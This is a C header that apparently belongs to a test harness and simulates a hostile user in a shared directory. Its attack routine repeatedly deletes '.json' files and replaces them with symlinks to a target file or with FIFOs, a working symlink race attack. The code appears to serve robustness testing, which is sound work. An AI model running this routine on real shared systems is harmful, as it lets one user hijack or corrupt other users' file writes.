/* Another user, who means ill, at work in a directory that several users share. */
#ifndef OTHER_USER_H
#define OTHER_USER_H

#include "moments.h"
#include <dirent.h>
#include <sys/stat.h>

/* attack MILLISECONDS DIRECTORY TARGET: puts a link to the target, or a FIFO, in the place of whatever appears there, as fast as it can. */
static void attack(void) {
  check(chdir(words[0]) == 0, "no directory %s", words[0]);
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  for (time_t end = now.tv_sec + number / 1000; now.tv_sec <= end; clock_gettime(CLOCK_MONOTONIC, &now)) {
    DIR *directory = opendir(".");
    check(directory != NULL, "no directory");
    for (struct dirent *entry; (entry = readdir(directory));) {
      if (!strstr(entry->d_name, ".json")) continue;
      /* in a directory with the sticky bit this fails for the files of others */
      if (unlink(entry->d_name) == 0 && (now.tv_nsec / 1000 % 4 == 0 ? mkfifo(entry->d_name, 0666) : symlink(words[1], entry->d_name)) != 0) continue;
    }
    closedir(directory);
    if (symlink(words[1], "summary.json") != 0) continue;
  }
}

#endif
